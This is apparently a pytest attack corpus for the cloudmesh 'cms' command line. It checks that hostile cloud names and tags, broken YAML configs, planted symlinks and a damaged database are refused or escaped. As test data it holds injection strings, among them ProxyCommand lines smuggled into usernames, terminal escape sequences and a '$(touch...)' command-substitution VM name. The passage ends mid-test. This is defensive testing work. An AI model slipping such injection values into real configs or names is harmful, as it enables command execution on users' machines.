"""The attack corpus of issue 10 (DESIGN section 10, "Trust boundaries").

Each case is played as an attacker would: a cloud (moto, the Multipass fake) that returns
hostile names and tags, a hostile or broken cloudmesh.yaml, symbolic links planted where
cms writes, a damaged database, Ctrl-C. Most cases run the ``cms`` command line in this
process (``cms_here``: its own environment, streams and exit code, as a process sees
them); the real ``cms`` runs as a subprocess where only a process shows it: Ctrl-C,
processes writing one config at once, and a config whose parsing could hang (ended by a
process time-out). OpenSSH's own reading of a written ~/.ssh/config is checked with
``ssh -G`` (which sends nothing). The cases are examples of classes: each class has
variants of its own.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from cloudmesh.aws.compute import USER_TAG
from cloudmesh.compute.testing.fixtures import CmsResult
from conftest import (CMS, TEST_SECRET, aws_cloud_spec, cms_here, ec2_client, moto_requests,
                      run_cms, write_config)
from fakes.multipass import harness

CORPUS = Path(__file__).parent / "corpus" / "attacks"
# what must never reach a terminal raw: C0 (but for nothing), DEL, C1, bidi controls
UNSAFE = [chr(c) for c in [*range(0x20), *range(0x7f, 0xa0)]] + [
    "\u2028", "\u2029", "\u202e", "\u2066", "\u200f"]


def raw_controls(text: str) -> list[str]:
    """The unsafe characters in text (a trailing newline per line is ours)."""
    return sorted({c for c in text.replace("\n", "") if c in UNSAFE})


def one_line_error(result, code: int) -> str:
    assert result.code == code, result
    lines = [line for line in result.err.splitlines() if line.startswith("error:")]
    assert len(lines) == 1, result.err
    assert "Traceback" not in result.err
    return lines[0]


def vm_id(name: str) -> str:
    return cms_here("vm", "info", name, "--output=json").json()["id"]


def tag(moto: str, instance_id: str, **tags: str) -> None:
    ec2_client(moto).create_tags(Resources=[instance_id],
                                 Tags=[{"Key": k, "Value": v} for k, v in tags.items()])


@pytest.fixture
def booted(cms_home: Path, moto: str) -> list[str]:
    """Two running VMs, web1 and web2, on the cloud 'moto' (the default cloud). Its
    ssh_host is 127.0.0.1, as the sandbox's is: a cloud on a loopback emulator never
    sends SSH to, nor writes a config entry for, the AWS addresses moto hands out; the
    rest of what reaches ~/.ssh/config (name, username tag, key) is still the VM's."""
    write_config(cms_home, {"moto": aws_cloud_spec(moto, ssh_host="127.0.0.1")},
                 default="moto")
    result = cms_here("vm", "boot", "--name=web[1-2]", "--output=json")
    assert result.code == 0, result
    return ["web1", "web2"]


def ssh_resolve(config: Path, host: str) -> dict[str, list[str]]:
    """How OpenSSH reads ``config`` for ``host`` (ssh -G: nothing is sent)."""
    done = subprocess.run(["ssh", "-G", "-F", str(config), host], capture_output=True,
                          text=True, timeout=30, stdin=subprocess.DEVNULL)
    assert done.returncode == 0, done.stderr
    options: dict[str, list[str]] = {}
    # OpenSSH's lines end at \n alone (splitlines would also split at \x85, \u2028 ...)
    for line in filter(None, done.stdout.split("\n")):
        key, _, value = line.partition(" ")
        options.setdefault(key, []).append(value)
    return options


needs_ssh = pytest.mark.skipif(shutil.which("ssh") is None, reason="no OpenSSH client")


# ---- 1. terminal escapes: cloud text is shown escaped ------------------------------------
def test_escape_sequences_and_newlines_in_a_name_are_shown_escaped(booted: list[str],
                                                                   moto: str) -> None:
    # (moto speaks XML, which cannot carry ESC or BEL: those come from the Multipass fake
    # below; C1's CSI, \x9b, is ESC [ in one byte)
    evil = {"web1": "web1\x9b2J\x9b31m\u202eevil", "web2": "web2\nweb9    running  fake"}
    for name, text in evil.items():
        tag(moto, vm_id(name), Name=text)
    for output, cached in [("table", []), ("csv", []), ("table", ["--cached"]),
                           ("csv", ["--cached"])]:
        result = cms_here("vm", "list", f"--output={output}", *cached)
        assert result.code == 0, result.err[:1500]
        assert raw_controls(result.out) == []
        lines = result.out.splitlines()
        assert len(lines) == (4 if output == "table" else 3), result.out  # no fake row
        assert "\\x9b2J\\x9b31m\\u202eevil" in result.out and "web2\\nweb9" in result.out
    # JSON and YAML keep the exact text, escaped in their own way; YAML on one line
    listed = cms_here("vm", "list", "--output=json")
    assert raw_controls(listed.out) == [] and set(evil.values()) <= {
        r["name"] for r in listed.json()}
    import yaml

    listed = cms_here("vm", "list", "--output=yaml")
    assert raw_controls(listed.out) == []
    assert not [line for line in listed.out.splitlines() if line.lstrip().startswith("web9")]
    assert set(evil.values()) <= {r["name"] for r in yaml.safe_load(listed.out)}


def test_one_line_errors_escape_what_they_quote(aws_cloud: str) -> None:
    """An error that quotes a name (or anything a cloud sent) stays one line."""
    for name, code in (("ghost\x1b[2J\nerror: fake second line", 2),  # [ opens a range
                       ("ghost\x1b)0;title\x07\rerror: fake", 2)):
        line = one_line_error(cms_here("vm", "info", name), code)
        assert raw_controls(line) == [] and "error: fake" in line and "\\x1b" in line


def test_multipass_names_from_the_fake_are_escaped(tmp_path: Path) -> None:
    host = MultipassHost(tmp_path)
    harness.seed_instances(host.state_file, {"ok": {}, "bad\x1b[5mblink\x07": {},
                                             "web\x1b]0;owned\x07\x1b[2J": {}})
    for output in ("table", "csv", "json", "yaml"):
        done = host.cms("multipass", "list", f"--output={output}")
        assert done.returncode == 0, done.stderr
        assert raw_controls(done.stdout) == [], done.stdout
    assert "bad\\x1b[5mblink\\x07" in done.stdout or "bad\\e[5mblink\\a" in done.stdout


# ---- 2. ~/.ssh/config: nothing from a cloud unless it is plain --------------------------
USER_CONFIG = "# mine\nHost github.com\n    User git\n"


def ssh_config() -> Path:
    path = Path.home() / ".ssh" / "config"
    path.parent.mkdir(mode=0o700, parents=True, exist_ok=True)
    return path


# (a few per class through cms and moto; the hypothesis test in test_properties-style
# below, test_ssh_config_writer_with_any_cloud_text, tries arbitrary text in-process)
USERNAMES = ["ubuntu\n    ProxyCommand touch /tmp/cms-owned", "root ProxyCommand=sh",
             "-oProxyCommand=sh", "\u0440oot"]
NAMES = ["*", "!web1", "web1\nHost *", "-oFoo"]
ADDRESSES = ["10.0.0.1\n  ProxyCommand sh", "%h", "-oProxyCommand=sh", "[::1]",
             "127.1"]  # (hypothesis found "0": resolvers read it as 0.0.0.0)


@needs_ssh
def test_a_username_tag_cannot_write_a_config_line(booted: list[str], moto: str) -> None:
    config = ssh_config()
    for username in USERNAMES:
        config.write_text(USER_CONFIG)
        # the tag aws records carry the VM's login in (what vm info shows as username)
        tag(moto, vm_id("web1"), **{USER_TAG: username})
        line = one_line_error(cms_here("ssh", "config", "add", "web1,web2"), 2)
        assert line.startswith("error: web1: not written") and "\n" not in line
        assert ": the user '" in line, line  # the tag reached the writer, which refused it
        text = config.read_text()
        assert "ProxyCommand" not in text and "# >>> cms web1" not in text
        assert "# >>> cms web2" in text  # the other VM's block is written
        resolved = ssh_resolve(config, "web2")
        assert "proxycommand" not in resolved and resolved["user"] == ["ubuntu"]
        assert ssh_resolve(config, "github.com")["user"] == ["git"]


@needs_ssh
def test_a_name_tag_cannot_become_a_host_pattern(booted: list[str], moto: str) -> None:
    config = ssh_config()
    config.write_text(USER_CONFIG)
    instance = vm_id("web1")
    for name in NAMES:
        tag(moto, instance, Name=name)
        line = one_line_error(cms_here("ssh", "config", "add", instance), 2)
        assert ": the host name '" in line, line  # refused by the writer, not before
        assert config.read_text() == USER_CONFIG, name
    assert ssh_resolve(config, "github.com")["user"] == ["git"]
    assert ssh_resolve(config, "elsewhere.example")["user"] != ["ubuntu"]


@needs_ssh
def test_an_address_must_be_an_ip_or_a_dns_name(booted: list[str]) -> None:
    config = ssh_config()
    config.write_text(USER_CONFIG)
    for address in ADDRESSES:
        assert cms_here("set", f"moto.ssh_host={address}").code == 0
        one_line_error(cms_here("ssh", "config", "add", "web1"), 2)
        assert config.read_text() == USER_CONFIG, address
    assert cms_here("set", "moto.ssh_host=fe80::1").code == 0  # an IPv6 literal is fine
    assert cms_here("ssh", "config", "add", "web1").code == 0
    assert ssh_resolve(config, "web1")["hostname"] == ["fe80::1"]


@needs_ssh
def test_paths_with_a_space_and_percent_are_quoted(tmp_path: Path, moto: str,
                                                   monkeypatch) -> None:
    """A config directory whose path has a space (and a %) still makes a config that
    OpenSSH reads, with the exact paths."""
    home = tmp_path / "home dir"
    config_dir = home / "my 100% cms"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("CLOUDMESH_CONFIG_DIR", str(config_dir))
    write_config(config_dir, {"moto": aws_cloud_spec(moto, key="k", ssh_host="127.0.0.1")},
                 default="moto")
    assert cms_here("key", "gen", "k").code == 0
    assert cms_here("vm", "boot", "--name=web1").code == 0
    assert cms_here("ssh", "config", "add", "web1").code == 0
    resolved = ssh_resolve(home / ".ssh" / "config", "web1")
    assert resolved["userknownhostsfile"] == [str(config_dir / "known_hosts")]
    # (ssh -G shows IdentityFile before expanding its %-tokens: %% is read as %)
    assert resolved["identityfile"] == [str(config_dir / "keys" / "k").replace("%", "%%")]
    listed = cms_here("ssh", "config", "list", "--output=json").json()
    assert listed[0]["identityfile"] == str(config_dir / "keys" / "k")


def test_delete_removes_exactly_its_block(booted: list[str]) -> None:
    config = ssh_config()
    # a marker of the user's own that is not closed is the user's text, not a block
    mine = USER_CONFIG + "# >>> cms notours\nHost notours\n    User me\n"
    config.write_text(mine)
    assert cms_here("ssh", "config", "add", "web1,web2").code == 0
    assert cms_here("ssh", "config", "delete", "web1").code == 0
    text = config.read_text()
    assert "web1" not in text and "# >>> cms web2" in text and text.startswith(mine)
    assert cms_here("ssh", "config", "delete", "web2").code == 0
    assert config.read_text() == mine


def test_ssh_config_through_a_symlink_writes_the_target(booted: list[str],
                                                        tmp_path: Path) -> None:
    dotfiles = tmp_path / "dotfiles"
    dotfiles.mkdir()
    target = dotfiles / "ssh_config"
    target.write_text(USER_CONFIG)
    target.chmod(0o644)
    link = ssh_config()
    link.symlink_to(target)
    assert cms_here("ssh", "config", "add", "web1").code == 0
    assert link.is_symlink() and "# >>> cms web1" in target.read_text()
    assert stat.S_IMODE(target.stat().st_mode) == 0o644  # its mode is kept
    assert cms_here("ssh", "config", "delete", "web1").code == 0
    assert link.is_symlink() and target.read_text() == USER_CONFIG
    # a link to nothing is refused: cms would create a file wherever it points
    link.unlink()
    link.symlink_to(tmp_path / "nowhere" / "config")
    one_line_error(cms_here("ssh", "config", "add", "web1"), 4)
    assert not (tmp_path / "nowhere").exists()


# ---- 3. secrets ------------------------------------------------------------------------
def secret_config(cms_home: Path, moto: str, **credentials) -> None:
    spec = aws_cloud_spec(moto)
    spec["credentials"].update(credentials)
    write_config(cms_home, {"moto": spec}, default="moto")


CANARY = "CANARYtok3n-zq81"


def test_a_token_that_breaks_a_header_is_not_shown(cms_home: Path, moto: str) -> None:
    """A token with a newline makes the HTTP library refuse the header, quoting the value
    (repr-escaped) in its error: the one-line error, cms check and --debug scrub it."""
    for token, commands in ((CANARY + "\n", (["vm", "list"], ["check"],
                                              ["--debug", "vm", "list"])),
                            (CANARY + "\nX-Evil: 1", (["vm", "list"],)),
                            (CANARY + "' \"x", (["vm", "list"],))):
        secret_config(cms_home, moto, session_token=token)
        for argv in commands:
            result = cms_here(*argv)
            assert CANARY not in result.out + result.err, (argv, result)
            assert "Traceback" not in result.err or argv[0] == "--debug"


def test_check_masks_values_from_the_environment(cms_home: Path, moto: str) -> None:
    spec = aws_cloud_spec(moto)
    spec["credentials"]["secret_access_key"] = "${CMS_ATTACK_SECRET}"
    spec["credentials"]["session_token"] = "${CMS_ATTACK_TOKEN}"
    write_config(cms_home, {"moto": spec, "down": {**spec, "credentials": {
        **spec["credentials"], "endpoint_url": "http://127.0.0.1:9"}}})
    env = {"CMS_ATTACK_SECRET": TEST_SECRET, "CMS_ATTACK_TOKEN": CANARY + "\n"}
    for output in ("table", "json", "csv", "yaml"):
        result = cms_here("check", f"--output={output}", env=env)
        text = result.out + result.err
        assert CANARY not in text and TEST_SECRET not in text, result


SECRET_NAMES_CONFIG = """\
cloudmesh:
  profile: {user: alice}
  compute:
    moto:
      cm: {kind: aws}
      credentials:
        region: us-east-1
        apikey: CANARY-apikey-1
        pwd: CANARY-pwd-2
        auth: CANARY-auth-3
        api-key: CANARY-api-key-4
        client_secret: CANARY-client-5
        passphrase: 123456789
  extra:
    passwords: [CANARY-list-6, CANARY-list-7]
    users:
      - {name: bob, password: CANARY-listdict-8}
    secret: {value: CANARY-below-9}
    auth_token: &tok CANARY-alias-10
    copy: *tok
# old credentials, kept for reference:
#   secret_access_key: CANARY-comment-11
#   password = "CANARY comment 12"
    note: keep  # token: CANARY-inline-13
"""


def test_secrets_by_name_at_any_depth_and_in_comments(cms_home: Path) -> None:
    cms_home.mkdir()
    path = cms_home / "cloudmesh.yaml"
    path.write_text(SECRET_NAMES_CONFIG)
    path.chmod(0o600)
    shown = [cms_here("config", "cat")]
    for key in ("cloudmesh.compute.moto.credentials", "cloudmesh.extra", "cloudmesh",
                "cloudmesh.extra.passwords", "cloudmesh.extra.secret.value",
                "cloudmesh.compute.moto.credentials.apikey",
                "cloudmesh.compute.moto.credentials.passphrase"):
        shown.append(cms_here("config", "get", key))
    for result in shown:
        assert result.code == 0, result
        leaked = [c for c in result.out.split() if "CANARY" in c]
        assert leaked == [] and "123456789" not in result.out, (result, leaked)
    cat = shown[0].out
    assert "region: us-east-1" in cat and "name: bob" in cat and "# old credentials" in cat


def test_a_duplicate_key_names_the_key_never_a_value(cms_home: Path) -> None:
    cms_home.mkdir()
    (cms_home / "cloudmesh.yaml").write_text(
        "cloudmesh:\n  compute:\n    moto:\n      credentials:\n"
        "        password: CANARY-first\n        password: CANARY-second\n")
    (cms_home / "cloudmesh.yaml").chmod(0o600)
    for argv in (["config", "cat"], ["config", "get", "cloudmesh"], ["check"],
                 ["config", "set", "cloudmesh.x", "1"], ["vm", "list"]):
        line = one_line_error(cms_here(*argv), 4)
        assert "'password'" in line and ":6:" in line and "CANARY" not in line, line


BILLION_LAUGHS = (CORPUS / "billion_laughs.yaml")


@pytest.mark.parametrize("argv", [["config", "cat"], ["vm", "list"], ["check"],
                                  ["config", "set", "cloudmesh.a", "1"]])
def test_alias_expansion_is_refused_fast(cms_home: Path, argv: list[str]) -> None:
    cms_home.mkdir()
    shutil.copy(BILLION_LAUGHS, cms_home / "cloudmesh.yaml")
    (cms_home / "cloudmesh.yaml").chmod(0o600)
    assert len(BILLION_LAUGHS.read_bytes()) <= 717
    started = time.monotonic()
    # one case in a process, whose time-out ends a parser that never returns; the
    # others in this process
    run = (lambda *a: run_cms(*a, timeout=30)) if argv == ["config", "cat"] else cms_here
    line = one_line_error(run(*argv), 4)
    assert time.monotonic() - started < 10
    assert "aliases" in line


def test_a_huge_config_is_refused(cms_home: Path) -> None:
    cms_home.mkdir()
    path = cms_home / "cloudmesh.yaml"
    path.write_text("cloudmesh:\n  profile: {user: a}\n" + "# padding\n" * 120_000)
    path.chmod(0o600)
    assert "over the limit" in one_line_error(cms_here("config", "cat"), 4)


def test_a_secret_is_scrubbed_in_every_printed_form() -> None:
    """In-process: the forms an SDK or a traceback prints a secret in."""
    from urllib.parse import quote, quote_plus

    from cloudmesh.compute import errors

    secret = "p@ss w/rd+\u00e9\n"
    errors.register_secret(secret)
    for form in (secret, secret.strip(), repr(secret), repr(secret.encode()),
                 json.dumps(secret), quote(secret), quote(secret, safe=""),
                 quote_plus(secret), quote(secret).lower(), errors.escape_control(secret)):
        printed = errors.printable_line(f"error: at {form} end")
        assert "ss w" not in printed and "ss%20w" not in printed and "ss+w" not in printed, \
            (form, printed)


def test_deep_nesting_is_refused_not_a_recursion_error(cms_home: Path) -> None:
    cms_home.mkdir()
    path = cms_home / "cloudmesh.yaml"
    path.write_text("cloudmesh:\n  profile: {user: a}\n  deep: " + "[" * 700 + "]" * 700 + "\n")
    path.chmod(0o600)
    for argv in (["config", "cat"], ["config", "get", "cloudmesh"]):
        assert "nested more than" in one_line_error(cms_here(*argv), 4)


# ---- 4. confirmation for destructive verbs ------------------------------------------------
class MultipassHost:
    def __init__(self, tmp: Path) -> None:
        self.tmp = tmp
        harness.install_fake(tmp / "bin")
        self.state_file = tmp / "multipass-state.json"
        self.env = harness.environment(
            tmp, PATH=f"{tmp / 'bin'}:{Path(sys.executable).parent}:/usr/bin:/bin")

    def cms(self, *args: str, input: str = "") -> CmsResult:
        """cms in this process, with this host's environment (the fake multipass first
        on PATH) and an input that is no terminal."""
        return cms_here(*args, env=self.env, cwd=self.tmp, stdin=input)

    def instances(self) -> dict:
        return harness.fake_state(self.state_file)["instances"]


def test_multipass_many_names_need_yes(tmp_path: Path) -> None:
    host = MultipassHost(tmp_path)
    names = [f"vm{i:02d}" for i in range(1, 13)]
    harness.seed_instances(host.state_file, {n: {} for n in names})
    for verb in ("delete", "stop", "suspend", "restart"):
        done = host.cms("multipass", verb, "vm[01-12]")
        assert done.returncode == 2, (verb, done.stderr)
        assert "refused without confirmation" in done.stderr
    assert all(i["state"] == "Running" and not i["deleted"] for i in host.instances().values())
    assert host.cms("multipass", "delete", "vm[01-12]", "--yes").returncode == 0
    assert all(i["deleted"] for i in host.instances().values())
    assert host.cms("multipass", "recover", "vm[01-02]").returncode == 0
    assert host.cms("multipass", "stop", "vm[01-02]").returncode == 0  # few: no question


def test_multipass_purge_needs_yes(tmp_path: Path) -> None:
    host = MultipassHost(tmp_path)
    harness.seed_instances(host.state_file, {"a": {"deleted": True}, "b": {}})
    done = host.cms("multipass", "purge")
    assert done.returncode == 2 and "refused without confirmation" in done.stderr, done.stderr
    assert set(host.instances()) == {"a", "b"}
    assert host.cms("multipass", "purge", input="n\n").returncode == 2  # no terminal: no
    assert host.cms("multipass", "purge", "--yes").returncode == 0
    assert set(host.instances()) == {"b"}
    assert host.cms("multipass", "purge").returncode == 0  # nothing to purge: no question


# ---- 5. Ctrl-C ---------------------------------------------------------------------------
def interrupt(argv: list[str], busy: Callable[[], bool],
              twice: bool = False) -> tuple[int, float, str]:
    """Start cms, send SIGINT once ``busy()`` says it is at work (its imports done, its
    requests under way; twice, 50 ms apart, if asked); the exit code, the seconds from
    the first signal to the exit, and stderr."""
    # SIGINT as a terminal's shell gives it, even when the tests run in the background
    # (a shell without job control starts those with SIGINT ignored, and a child inherits it)
    process = subprocess.Popen([CMS, *argv], stdout=subprocess.DEVNULL,
                               stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True,
                               preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    give_up = time.monotonic() + 60
    while not busy() and process.poll() is None and time.monotonic() < give_up:
        time.sleep(0.05)
    time.sleep(0.2)  # well into what it is doing, not at its first step
    assert process.poll() is None, process.stderr.read()
    sent = time.monotonic()
    process.send_signal(signal.SIGINT)
    if twice:
        time.sleep(0.05)
        if process.poll() is None:
            process.send_signal(signal.SIGINT)
    try:
        _, err = process.communicate(timeout=20)
    except subprocess.TimeoutExpired:
        process.kill()
        _, err = process.communicate()
        return -1, 99.0, err
    return process.returncode, time.monotonic() - sent, err


def test_ctrl_c_stops_a_wait_on_several_vms_within_a_second(booted: list[str],
                                                          moto: str) -> None:
    for twice in (False, True):
        asked = len(moto_requests(moto, "DescribeInstances"))
        code, seconds, err = interrupt(
            ["vm", "wait", "web1,web2", "--state=stopped", "--timeout=60"], twice=twice,
            busy=lambda: len(moto_requests(moto, "DescribeInstances")) > asked)
        assert code == 130 and seconds < 1.0, (twice, code, seconds, err)
        assert "Traceback" not in err and "interrupted" in err


class SilentSshd:
    """A port that accepts connections and never says a word (an SSH server that hangs);
    ``held`` are the connections it accepted."""

    def __init__(self, port: int, held: list[socket.socket]) -> None:
        self.port, self.held = port, held


@pytest.fixture
def silent_sshd() -> Iterator[SilentSshd]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    held: list[socket.socket] = []
    stop = threading.Event()

    def accept() -> None:
        server.settimeout(0.2)
        while not stop.is_set():
            try:
                held.append(server.accept()[0])
            except OSError:
                pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield SilentSshd(server.getsockname()[1], held)
    stop.set()
    thread.join()
    for connection in held:
        connection.close()
    server.close()


def test_ctrl_c_stops_ssh_to_several_vms_within_a_second(booted: list[str],
                                                         silent_sshd: SilentSshd) -> None:
    assert cms_here("set", "moto.ssh_host=127.0.0.1",
                    f"moto.ssh_port={silent_sshd.port}").code == 0
    # the VMs were booted without a key: given one, cms connects (and hangs) rather than
    # refusing before any attempt
    assert cms_here("key", "gen", "k").code == 0
    for twice in (False, True):
        connected = len(silent_sshd.held)
        code, seconds, err = interrupt(["vm", "ssh", "web1,web2", "--command=true", "--key=k"],
                                       busy=lambda: len(silent_sshd.held) > connected,
                                       twice=twice)
        assert code == 130 and seconds < 1.0, (twice, code, seconds, err)
        assert "Traceback" not in err


# ---- 6. concurrency: config set ------------------------------------------------------------
def test_twenty_parallel_config_sets_lose_nothing(cms_home: Path) -> None:
    assert cms_here("init", "--user=ada").code == 0
    processes = [subprocess.Popen([CMS, "config", "set", f"cloudmesh.parallel.k{i}", str(i)],
                                  stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
                 for i in range(20)]
    for process in processes:
        assert process.wait(timeout=120) == 0, process.stderr.read()
    import yaml

    data = yaml.safe_load((cms_home / "cloudmesh.yaml").read_text())
    assert data["cloudmesh"]["parallel"] == {f"k{i}": i for i in range(20)}


# ---- 7. files: symlinks, modes, a damaged database ----------------------------------------
def test_config_set_through_a_symlinked_config_writes_the_target(cms_home: Path,
                                                                 tmp_path: Path) -> None:
    assert cms_here("init", "--user=ada").code == 0
    kept = tmp_path / "kept" / "cloudmesh.yaml"
    kept.parent.mkdir()
    (cms_home / "cloudmesh.yaml").rename(kept)
    (cms_home / "cloudmesh.yaml").symlink_to(kept)
    assert cms_here("config", "set", "cloudmesh.profile.user", "bob").code == 0
    assert (cms_home / "cloudmesh.yaml").is_symlink()
    assert "user: bob" in kept.read_text()
    assert stat.S_IMODE(kept.stat().st_mode) == 0o600
    # a link to nothing: cms init would write wherever it points, so it refuses
    (cms_home / "cloudmesh.yaml").unlink()
    (cms_home / "cloudmesh.yaml").symlink_to(tmp_path / "elsewhere.yaml")
    assert "symbolic link" in one_line_error(cms_here("init", "--user=ada"), 4)
    assert not (tmp_path / "elsewhere.yaml").exists()


@pytest.mark.parametrize("planted", ["lab", "lab.pub"])
def test_key_gen_refuses_a_planted_symlink(cms_home: Path, tmp_path: Path,
                                           planted: str) -> None:
    keys = cms_home / "keys"
    keys.mkdir(parents=True)
    victim = tmp_path / "victim"
    (keys / planted).symlink_to(victim)  # dangling: the file it names does not exist
    line = one_line_error(cms_here("key", "gen", "lab"), 2)
    assert "exists" in line
    assert not victim.exists() and sorted(p.name for p in keys.iterdir()) == [planted]


def test_database_and_its_wal_files_are_private(cms_home: Path) -> None:
    from cloudmesh.compute.state import State

    assert cms_here("init", "--user=ada").code == 0
    for path in cms_home.glob("cloudmesh.db*"):
        path.unlink()
    os.umask(0o022)
    state = State(cms_home / "cloudmesh.db")  # a new database, made by this process
    state.set("cloud", "x")
    state.cache_put("x", "vm", {"name": "a"})
    files = [p for p in cms_home.iterdir() if p.name.startswith("cloudmesh.db")]
    assert {p.name for p in files} >= {"cloudmesh.db", "cloudmesh.db-wal", "cloudmesh.db-shm"}
    assert {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in files} == {
        p.name: "0o600" for p in files}
    state.close()
    # files of an older cms, readable by others, are made private on the next open
    for path in files:
        if path.exists():
            path.chmod(0o644)
    assert cms_here("set", "cloud=aws").code == 0
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in files if p.exists())


def closed_as_at_exit() -> None:
    """Close the state database an in-process command left open, as a process's exit
    does: its State is freed only by the cycle collector, and until then its connection
    keeps pages in the write-ahead log, where the damage below would not reach them."""
    import gc

    gc.collect()


def damage(db: Path) -> None:
    with open(db, "r+b") as handle:
        handle.seek(4096)  # the second page: a table's root
        handle.write(b"\x00" * 32)


def test_a_damaged_database_stops_a_boot_before_the_cloud(aws_cloud: str, moto: str,
                                                          cms_home: Path) -> None:
    assert cms_here("set", "flavor=t3.micro").code == 0
    closed_as_at_exit()
    from cloudmesh.compute.state import State

    state = State(cms_home / "cloudmesh.db")
    state.cache_replace("moto", "vm", [{"name": f"old{i}", "pad": "x" * 500}
                                       for i in range(40)])
    state.close()
    damage(cms_home / "cloudmesh.db")
    for argv in (["vm", "boot", "--name=web1"], ["vm", "list", "--cached"], ["set"]):
        line = one_line_error(cms_here(*argv), 4)
        assert "damaged" in line and "mv " in line, line
    reservations = ec2_client(moto).describe_instances()["Reservations"]
    assert reservations == []  # nothing was created
    (cms_home / "cloudmesh.db").rename(cms_home / "cloudmesh.db.broken")
    assert cms_here("vm", "boot", "--name=web1").code == 0  # the way out works


def test_a_database_that_is_not_one_is_a_config_error(cms_home: Path) -> None:
    assert cms_here("init", "--user=ada").code == 0
    closed_as_at_exit()
    (cms_home / "cloudmesh.db").write_bytes(b"this is not SQLite" * 100)
    line = one_line_error(cms_here("set", "cloud=aws"), 4)
    assert "mv " in line


# ---- 8. hypothesis: arbitrary text from a "cloud" -----------------------------------------

# text weighted toward what attacks use: controls, escapes, separators, quotes, patterns
cloud_text = st.text(alphabet=st.one_of(
    st.sampled_from(UNSAFE + [" ", "\\", '"', "'", "*", "?", "!", "%", "$", "{", "}", "#",
                              "=", ",", "-", ".", "\u00a0", "\u200b", "\ufeff"]),
    st.characters()), max_size=30)


@settings(max_examples=200, deadline=None)
@given(records=st.lists(st.fixed_dictionaries({
    "name": cloud_text, "status": cloud_text, "public_ips": st.lists(cloud_text, max_size=2),
    "zone": st.one_of(st.none(), cloud_text, st.integers())}), min_size=1, max_size=4))
def test_renderer_never_prints_a_control_character(records: list[dict]) -> None:
    from cloudmesh.compute.output import render

    columns = ["name", "status", "public_ips", "zone"]
    for output in ("table", "csv", "json", "yaml"):
        text = render(records, output, columns)
        assert raw_controls(text) == [], (output, text)
    table = render(records, "table", columns).split("\n")
    assert len(table) == len(records) + 2  # one line per record: no fake rows
    import csv
    import io

    rows = list(csv.reader(io.StringIO(render(records, "csv", columns))))
    assert len(rows) == len(records) + 1
    import yaml

    assert yaml.safe_load(render(records, "yaml", columns)) == records
    assert json.loads(render(records, "json", columns)) == records


def mostly(valid: object, hostile: object, dice: int) -> object:
    """The hostile value one time in five: most examples then pass every check, and
    OpenSSH's reading of the file is compared with what was written."""
    return hostile if dice == 4 else valid  # (hypothesis favours 0: valid)


accepted: list[str] = []  # how many examples got past the checks (to see the test bites)


class Target:
    def __init__(self, name: str, host: str, username: str, port: object,
                 key_path: str | None) -> None:
        self.name, self.host, self.username, self.port = name, host, username, port
        self.key_path = key_path


@needs_ssh
@settings(max_examples=60, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=st.builds(mostly, st.from_regex(r"[A-Za-z0-9._-]{1,12}", fullmatch=True),
                      cloud_text, st.integers(0, 4)),
       host=st.builds(mostly, st.one_of(st.ip_addresses().map(str), st.from_regex(
           r"[a-z0-9]{1,8}(\.[a-z0-9-]{0,8}[a-z0-9]){0,2}", fullmatch=True)),
           cloud_text, st.integers(0, 4)),
       user=st.builds(mostly, st.from_regex(r"[a-z_][a-z0-9_.-]{0,8}", fullmatch=True),
                      cloud_text, st.integers(0, 4)),
       port=st.builds(mostly, st.integers(1, 65535),
                      st.one_of(cloud_text, st.integers(-5, 70000)), st.integers(0, 4)),
       key=st.one_of(st.none(), st.builds(mostly, st.from_regex(r"/[ %a-z0-9]{1,10}",
                                                                fullmatch=True),
                                          cloud_text.map(lambda t: "/keys dir/" + t),
                                          st.integers(0, 4))))
@example(name="n0", host="10.0.0.1", user="u", port=22, key="/keys dir/\x85")  # NEL
def test_ssh_config_writer_with_any_cloud_text(tmp_path: Path, monkeypatch, name: str,
                                               host: str, user: str, port: object,
                                               key: str | None) -> None:
    """Whatever a cloud says, the written file is what OpenSSH reads: either the block is
    refused (and the file is unchanged), or ssh -G gives back exactly the values, and no
    other host is affected."""
    from cloudmesh.compute import sshconfig
    from cloudmesh.compute.errors import UsageError

    home = tmp_path / "h"
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("CLOUDMESH_CONFIG_DIR", str(home / "cms dir"))
    config = ssh_config()
    config.write_text(USER_CONFIG)
    try:
        sshconfig.add([Target(name, host, user, port, key)])
    except UsageError as error:
        assert "\n" not in str(error) and raw_controls(str(error)) == []
        assert config.read_text() == USER_CONFIG
        return
    accepted.append(name)
    resolved = ssh_resolve(config, name)
    assert resolved["hostname"] == [host.lower() if ":" not in host else resolved["hostname"][0]]
    assert resolved["user"] == [user] and resolved["port"] == [str(int(str(port)))]
    assert "proxycommand" not in resolved and "localcommand" not in resolved
    assert resolved["userknownhostsfile"] == [str(home / "cms dir" / "known_hosts")]
    if key:
        assert resolved["identityfile"] == [key.replace("%", "%%")]
    assert ssh_resolve(config, "github.com")["user"] == ["git"]
    assert [e["host"] for e in sshconfig.entries()] == [name]
    assert sshconfig.remove([name]) == [name]
    assert config.read_text() == USER_CONFIG
    home_files = sorted(p.name for p in (home / ".ssh").iterdir())
    assert home_files == ["config"]
    shutil.rmtree(home)


# ---- issue 21: completion, one key per key file, private files ------------------------
@pytest.mark.skipif(shutil.which("bash") is None, reason="bash is not installed")
def test_a_cached_name_with_code_completes_to_a_name_not_a_command(cms_home: Path,
                                                                   tmp_path: Path) -> None:
    """A VM named web$(touch${IFS}marker), cached as 'vm list' caches it: 'cms vm info
    we<TAB>' and Enter give cms the name and create no marker."""
    from cloudmesh.compute.state import State
    from test_shell_completion import CLOSED, bash_complete, bash_runs

    name = "web$(touch${IFS}marker)"
    write_config(cms_home, {"moto": aws_cloud_spec(CLOSED)}, default="moto")
    state = State(cms_home / "cloudmesh.db")
